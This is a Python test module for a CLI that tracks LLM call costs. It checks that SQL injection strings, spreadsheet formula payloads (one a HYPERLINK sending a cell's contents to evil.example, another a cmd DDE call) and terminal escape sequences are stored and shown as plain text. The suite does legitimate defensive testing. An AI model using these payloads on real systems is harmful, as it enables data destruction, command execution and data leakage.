"""Names and texts that try to be SQL, formulas or commands of a terminal stay what they are: data."""

from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from typer.testing import CliRunner, Result

from airflow_llm_provider.cli import app
from airflow_llm_provider.documents.formats import open_writer
from airflow_llm_provider.engine.client import AnthropicClient
from airflow_llm_provider.engine.endpoint import Endpoint
from airflow_llm_provider.engine.engine import Engine
from airflow_llm_provider.engine.request import Request
from airflow_llm_provider.ledger.ledger import Ledger
from airflow_llm_provider.ledger.records import CallScope
from airflow_llm_provider.testing.standin import StandIn
from tests.support.postgres import LocalPostgres
from tests.support.terms import make_terms

EVIL = [
    "x' OR '1'='1",
    "'; DROP TABLE call; --",
    'x"; DROP TABLE "call"; --',
    "x'); DELETE FROM call; --",
    "%", "_", "\\", "\\'", ":name", "%(name)s", "%s", "{dag_id}", "?", "$1", "/* */",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1+1",
    "x\r=1+1", "\x1b]0;owned\x07\x1b[2J", "[bold red]markup[/]", "[link=http://evil.example]x[/link]",
    "😀é\u202e",
]  # fmt: skip
COLUMNS = {
    **{by: f"{by}_id" for by in ("dag", "run", "task")},
    **{by: by for by in ("owner", "tag", "version")},
    "document": "item_id",
}
_numbers = itertools.count()


@pytest.fixture(scope="module")
def postgres() -> Iterator[LocalPostgres]:
    with LocalPostgres(durable=False) as server:
        yield server


@pytest.fixture(params=["sqlite", "postgresql"])
def ledger_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'ledger.db'}"
    server: LocalPostgres = request.getfixturevalue("postgres")
    return server.create_database(f"injection_{next(_numbers)}")


def named(name: str, **more: Any) -> CallScope:
    """Return a caller that bears a name everywhere."""
    return CallScope(
        dag_id=name,
        run_id=name,
        task_id=name,
        owner=name,
        tags=json.dumps([name]),
        trace_id="0" * 32,
        **more,
    )


def run(url: str, *arguments: str) -> Result:
    return CliRunner().invoke(app, [*arguments, "--ledger-url", url], env={"COLUMNS": "250"})


def told(url: str, *arguments: str) -> Any:
    result = run(url, *arguments)
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


async def ask(url: str, server: StandIn, names: list[str]) -> None:
    engine = Engine(
        endpoint=Endpoint(client=AnthropicClient(api_key="any", base_url=server.url)), ledger=Ledger(url)
    )
    try:
        for name in names:
            question = Request(
                model="claude-haiku-5-5",
                messages=[{"role": "user", "content": "Well?"}],
                version=name,
                max_tokens=50,
            )
            for _ in range(2):
                await engine.ask(question, make_terms(named(name), reuse="run", item_id=name))
    finally:
        await engine.close()


async def test_hostile_names_are_kept_found_and_added_up_exactly(ledger_url: str) -> None:
    with StandIn() as server:
        await ask(ledger_url, server, EVIL)
        assert server.invoice.paid == len(EVIL)  # each found its own the second time, and no other's
    for by, column in COLUMNS.items():
        report = told(ledger_url, "costs", "--by", by, "--json")
        assert sorted(row[column] for row in report["rows"]) == sorted(EVIL), by
        assert {row["calls"] for row in report["rows"]} == {1}
    for option in ("--dag", "--run", "--task"):
        for name in EVIL:
            assert told(ledger_url, "costs", option, name, "--json")["total"]["calls"] == 1
    calls = [json.loads(line) for line in run(ledger_url, "ledger", "export").stdout.splitlines()]
    assert sorted(one["dag_id"] for one in calls) == sorted(EVIL)


async def test_what_a_spreadsheet_or_a_terminal_would_run_is_shown_as_text(ledger_url: str) -> None:
    with StandIn() as server:
        await ask(ledger_url, server, EVIL)
    for command in (("costs", "--by", "document"), ("costs", "--by", "dag"), ("ledger", "export")):
        table = run(ledger_url, *command, "--csv").stdout
        cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
        # A number below zero is one.
        assert not [
            c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) and not is_number(c)
        ]
        assert {f"'{name}" for name in EVIL if name[0] in "=+-@\t\r\n"} <= set(cells)
    for command in (("costs", "--by", "dag"), ("ledger", "show"), ("effects", "list"), ("budgets", "list")):
        shown = run(ledger_url, *command).stdout
        assert "\x1b" not in shown
        assert "\x07" not in shown
    assert "[bold red]markup[/]" in run(ledger_url, "costs", "--by", "dag").stdout


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_budgets_of_any_name_are_set_and_removed_alone(ledger_url: str) -> None:
    given = [name for name in EVIL if not name.startswith("-")]  # that is an option, as everywhere
    names = [name for name in given if name.isprintable()]  # what nobody can see is refused
    assert 0 < len(names) < len(given)
    for name in given:
        one = ("--usd", "5", "--scope", f"dag:{name}", "--per", "day")
        assert run(ledger_url, "budgets", "set", name, *one).exit_code == (0 if name in names else 1)
    while names:
        assert sorted(one["name"] for one in told(ledger_url, "budgets", "list", "--json")) == sorted(names)
        assert run(ledger_url, "budgets", "remove", names.pop()).exit_code == 0


def test_no_table_was_dropped_and_nothing_pruned_by_a_name(ledger_url: str) -> None:
    ledger = Ledger(ledger_url)
    engine = sa.create_engine(ledger.database.url, poolclass=sa.NullPool)
    before = sa.inspect(engine).get_table_names()
    for name in EVIL:
        told(ledger_url, "effects", "list", "--dag", name, "--json")
        told(ledger_url, "ledger", "show", "--dag", name, "--run", name, "--json")
    assert sorted(sa.inspect(engine).get_table_names()) == sorted(before) != []
    engine.dispose()
    ledger.close()


def test_rows_for_the_warehouse_are_what_the_model_said(tmp_path: Path) -> None:
    # Decided: a `'` in front would be a wrong value in the warehouse, so a CSV of rows is not for spreadsheets.
    with (tmp_path / "rows.csv").open("w+b") as file:
        writer = open_writer("csv", file, schema=None, list_type=False)
        for name in EVIL:
            writer.write({"document_id": name, "data": name})
        writer.finish()
    with (tmp_path / "rows.csv").open(encoding="utf-8", newline="") as text:
        assert [(row["document_id"], row["data"]) for row in csv.DictReader(text)] == [(n, n) for n in EVIL]
